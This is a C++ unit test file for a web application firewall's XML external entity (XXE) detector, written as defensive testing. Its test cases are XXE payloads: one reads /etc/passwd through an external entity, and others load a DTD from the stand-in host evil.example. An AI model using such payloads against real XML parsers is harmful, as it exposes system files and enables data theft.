#include "waf_test_util.h"

namespace rampart::waf {
namespace {

using testing::Case;
using testing::verdict;

TEST(Xxe, AttacksAreFound) {
  const Case cases[] = {
      {"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
       "xxe: external entity"},
      {"<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]>",
       "xxe: external entity"},
      {"<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>", "xxe: external DTD"},
      {"<!DOCTYPE html>", ""},
      {"<?xml version=\"1.0\"?><r>text</r>", ""},
  };
  for (const Case& c : cases) EXPECT_EQ(verdict(c.input), c.expected) << c.input;
}

TEST(Xxe, LookAlikesPass) {
  const Case cases[] = {

  };
  for (const Case& c : cases) EXPECT_EQ(verdict(c.input), c.expected) << c.input;
}

}  // namespace
}  // namespace rampart::waf
